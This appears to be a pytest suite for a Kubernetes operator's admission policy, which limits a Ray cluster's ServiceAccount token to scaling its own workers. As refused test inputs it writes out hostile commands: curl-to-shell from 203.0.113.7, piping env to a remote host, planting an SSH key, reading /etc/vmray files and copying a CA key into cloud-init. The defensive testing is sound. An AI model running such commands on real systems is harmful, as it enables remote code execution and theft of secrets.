"""The admission policy on the real API server: a cluster's own ServiceAccount token (which every Ray job on
its nodes can read) changes spec.autoscaler_desired_workers of its cluster and nothing else; the operator's
writes and people's changes go through as before."""

from __future__ import annotations

import base64
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import pytest

from tests.support.clusters import as_token, cluster_token, delete_cluster, get_cluster, sample, wait_condition
from tests.support.waiting import wait_for
from vmray_operator.api import admission, contract
from vmray_operator.controller.runtime import Controller
from vmray_operator.kube import resources as r
from vmray_operator.kube.client import JSON_PATCH, MERGE_PATCH, Forbidden, Kube
from vmray_operator.local import samples
from vmray_operator.render import identity
from vmray_operator.render.autoscaler import config_map_name
from vmray_operator.render.names import ClusterSecret

pytestmark = pytest.mark.simulator

CLUSTER = "guarded"
CA_SECRET = ClusterSecret.CA.of(CLUSTER)
WORKER_TYPE = "ray.worker.default"
PASSWORD_HASH = "$6$test1234$9/BUZHNkvq.c1miDDMG5cHLmM4V7gbYdGuF0//3gSIh//DOyi7ypPCs6EAA9b8/tidHottL6UG0tG/RqTgAAi/"


@dataclass(frozen=True)
class Guarded:
    namespace: str
    token: Kube  # a client with the cluster's own ServiceAccount token, as a Ray job on its head has it


@pytest.fixture(scope="module")
async def guarded(kube: Kube, operator: Controller) -> AsyncIterator[Guarded]:
    """A Ready cluster whose password hash lives in a Secret, as the README advises."""
    namespace = f"t-{uuid.uuid4().hex[:8]}"
    await samples.seed_namespace(kube, namespace)
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {"name": "ray-login"},
        "data": {"password_hash": base64.b64encode(PASSWORD_HASH.encode()).decode()},
    }
    await kube.create(r.SECRETS, secret, namespace)
    body = sample(namespace, CLUSTER)
    del body["spec"]["common_node_config"]["vm_password_salt_hash"]
    body["spec"]["common_node_config"]["vm_password_secret"] = {"name": "ray-login"}
    await kube.create(r.VMRAYCLUSTERS, body, namespace)
    await wait_condition(kube, namespace, CLUSTER, "Ready")
    token = as_token(kube, await cluster_token(kube, namespace, CLUSTER))
    try:
        yield Guarded(namespace, token)
    finally:
        token.close()
        await delete_cluster(kube, namespace, CLUSTER)
        await kube.delete(r.NAMESPACES, namespace)


async def _cluster(kube: Kube, guarded: Guarded) -> dict[str, Any]:
    cluster = await get_cluster(kube, guarded.namespace, CLUSTER)
    assert cluster is not None
    return cluster


async def _refused(guarded: Guarded, patch: Any, path: str, content_type: str = MERGE_PATCH) -> None:
    """The token's patch is refused by the policy, naming path."""
    with pytest.raises(Forbidden) as refused:
        await guarded.token.patch(r.VMRAYCLUSTERS, CLUSTER, patch, guarded.namespace, content_type=content_type)
    assert refused.value.message.endswith(admission.refusal(path)), refused.value.message


def _stable(cluster: dict[str, Any]) -> dict[str, Any]:
    meta = cluster["metadata"]
    return {
        "spec": cluster["spec"],
        **{key: meta.get(key) for key in ("labels", "annotations", "finalizers", "ownerReferences")},
    }


async def test_the_operators_own_writes_go_through(kube: Kube, guarded: Guarded) -> None:
    """Adoption (finalizer, head nounce, the first workers) and every status write happened under the policy."""
    cluster = await _cluster(kube, guarded)
    assert contract.FINALIZER in cluster["metadata"]["finalizers"]
    assert contract.HEAD_NOUNCE_LABEL in cluster["metadata"]["labels"]
    assert len(cluster["spec"]["autoscaler_desired_workers"]) == 2
    assert cluster["status"]["ready_workers"] == 2


async def test_the_token_scales_its_cluster(kube: Kube, guarded: Guarded) -> None:
    added = f"{CLUSTER}-w-bytoken0"
    desired = {"spec": {"autoscaler_desired_workers": {added: WORKER_TYPE}}}
    await guarded.token.patch(r.VMRAYCLUSTERS, CLUSTER, desired, guarded.namespace)

    async def worker(present: bool) -> bool:
        current = (await _cluster(kube, guarded)).get("status", {}).get("current_workers", {})
        return (added in current and current[added]["vm_status"] == "running") == present

    await wait_for(lambda: worker(True), what=f"{added}, added with the token")
    removed = {"spec": {"autoscaler_desired_workers": {added: None}}}
    await guarded.token.patch(r.VMRAYCLUSTERS, CLUSTER, removed, guarded.namespace)
    await wait_for(lambda: worker(False), what=f"{added}, removed with the token")


REFUSED = [
    # a Secret of the cluster's namespace copied into a new VM's cloud-init: here the cluster's own CA key
    (
        "spec.common_node_config.vm_password_secret",
        {
            "spec": {
                "common_node_config": {"vm_password_secret": {"name": ClusterSecret.CA.of(CLUSTER), "key": "ca.key"}}
            }
        },
    ),
    ("spec.ray_docker_image", {"spec": {"ray_docker_image": "ghcr.io/someone-else/ray:2.60.0"}}),
    (
        "spec.common_node_config.setup_commands",
        {"spec": {"common_node_config": {"setup_commands": ["curl -fsSL http://203.0.113.7/tools.sh | sh  # tools"]}}},
    ),
    (
        "spec.common_node_config.initialization_commands",
        {"spec": {"common_node_config": {"initialization_commands": ["echo 'ssh-ed25519 AAAA x' >> ~/.ssh/keys"]}}},
    ),
    ("spec.head_node.setup_commands", {"spec": {"head_node": {"setup_commands": ["pip install requests"]}}}),
    (
        "spec.head_node.head_setup_commands",
        {"spec": {"head_node": {"head_setup_commands": ["pip install requests"]}}},
    ),
    ("spec.worker_node.setup_commands", {"spec": {"worker_node": {"setup_commands": ["cat /etc/vmray/*"]}}}),
    (
        "spec.docker_config.auth_secret_name",
        {"spec": {"docker_config": {"auth_secret_name": ClusterSecret.CERTIFICATES.of(CLUSTER)}}},
    ),
    ("spec.api_server.location", {"spec": {"api_server": {"location": "203.0.113.7:6443"}}}),
    (
        "spec.api_server.ca_cert",
        {"spec": {"api_server": {"ca_cert": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"}}},
    ),
    ("spec.common_node_config.max_workers", {"spec": {"common_node_config": {"max_workers": 50}}}),
    (
        "spec.common_node_config.available_node_types",
        {"spec": {"common_node_config": {"available_node_types": {WORKER_TYPE: {"min_workers": 5}}}}},
    ),
    ("spec.common_node_config.idle_timeout_minutes", {"spec": {"common_node_config": {"idle_timeout_minutes": 1}}}),
    ("spec.common_node_config.vm_image", {"spec": {"common_node_config": {"vm_image": "ubuntu-22.04-other"}}}),
    (
        "spec.common_node_config.shared_storage",
        {"spec": {"common_node_config": {"shared_storage": {"nfs_server": "203.0.113.7", "export_path": "/x"}}}},
    ),
    ("spec.autoscaling.enabled", {"spec": {"autoscaling": {"enabled": False}}}),
    ("spec.autoscaling.upscaling_speed", {"spec": {"autoscaling": {"upscaling_speed": 100}}}),
    # a new head nounce would make the operator replace the head
    ("metadata.labels", {"metadata": {"labels": {contract.HEAD_NOUNCE_LABEL: "zzzzzzzz"}}}),
    ("metadata.labels", {"metadata": {"labels": {"team": "research"}}}),
    ("metadata.annotations", {"metadata": {"annotations": {"note": "scaled by hand"}}}),
    # without the operator's finalizer, a deleted cluster would leave its VMs behind
    ("metadata.finalizers", {"metadata": {"finalizers": []}}),
    # a changed spec rides along with a legitimate scaling patch: the whole patch is refused
    (
        "spec.ray_docker_image",
        {
            "spec": {
                "autoscaler_desired_workers": {f"{CLUSTER}-w-sneaky00": WORKER_TYPE},
                "ray_docker_image": "ghcr.io/someone-else/ray:2.60.0",
            }
        },
    ),
]


@pytest.mark.parametrize(("path", "patch"), REFUSED, ids=[f"{i}-{path}" for i, (path, _) in enumerate(REFUSED)])
async def test_the_token_may_not_change(kube: Kube, guarded: Guarded, path: str, patch: dict[str, Any]) -> None:
    before = _stable(await _cluster(kube, guarded))
    await _refused(guarded, patch, path)
    assert _stable(await _cluster(kube, guarded)) == before


async def test_every_patch_type_is_judged_by_its_result(kube: Kube, guarded: Guarded) -> None:
    ownership = await kube.get(r.CONFIG_MAPS, config_map_name(CLUSTER), guarded.namespace)
    assert ownership is not None
    # a foreign owner: deleting it would have Kubernetes collect the cluster
    owner = {"apiVersion": "v1", "kind": "ConfigMap", "name": ownership["metadata"]["name"]}
    owner["uid"] = ownership["metadata"]["uid"]
    json_patches = {
        "spec.head_node.setup_commands": [
            {"op": "add", "path": "/spec/head_node/setup_commands", "value": ["env | curl -d @- http://203.0.113.7"]}
        ],
        "metadata.ownerReferences": [{"op": "add", "path": "/metadata/ownerReferences", "value": [owner]}],
    }
    for path, patch in json_patches.items():
        await _refused(guarded, patch, path, content_type=JSON_PATCH)


async def test_the_status_stays_the_operators_even_where_rbac_would_allow_the_token(
    kube: Kube, guarded: Guarded
) -> None:
    """The cluster's Role grants no status; should a Role ever grant it, the policy still refuses."""
    account = identity.service_account_name(CLUSTER)
    role = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "Role",
        "metadata": {"name": "status-writer"},
        "rules": [
            {
                "apiGroups": [contract.GROUP],
                "resources": ["vmrayclusters/status"],
                "resourceNames": [CLUSTER],
                "verbs": ["patch"],
            }
        ],
    }
    binding = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "status-writer"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "status-writer"},
        "subjects": [{"kind": "ServiceAccount", "name": account, "namespace": guarded.namespace}],
    }
    await kube.create(r.ROLES, role, guarded.namespace)
    await kube.create(r.ROLE_BINDINGS, binding, guarded.namespace)
    try:
        forged = {"status": {"current_workers": {f"{CLUSTER}-w-ghost000": {"vm_status": "running"}}}}

        async def refused_by_the_policy() -> bool:  # RBAC caches need a moment to see the new binding
            try:
                await guarded.token.patch(r.VMRAYCLUSTERS, CLUSTER, forged, guarded.namespace, subresource="status")
            except Forbidden as error:
                return error.message.endswith(admission.refusal("status"))
            raise AssertionError("the token wrote the status")

        await wait_for(refused_by_the_policy, what="the status write refused by the policy")
    finally:
        await kube.delete(r.ROLE_BINDINGS, "status-writer", guarded.namespace)
        await kube.delete(r.ROLES, "status-writer", guarded.namespace)


async def test_people_still_change_what_the_token_may_not(kube: Kube, guarded: Guarded) -> None:
    patch = {
        "metadata": {"labels": {"team": "research"}, "annotations": {"note": "resized"}},
        "spec": {"common_node_config": {"idle_timeout_minutes": 30}},
    }
    changed = await kube.patch(r.VMRAYCLUSTERS, CLUSTER, patch, guarded.namespace)
    assert changed["spec"]["common_node_config"]["idle_timeout_minutes"] == 30
    assert changed["metadata"]["labels"]["team"] == "research"
    # and what the person changed, the token may not change back
    await _refused(guarded, {"metadata": {"labels": {"team": None}}}, "metadata.labels")
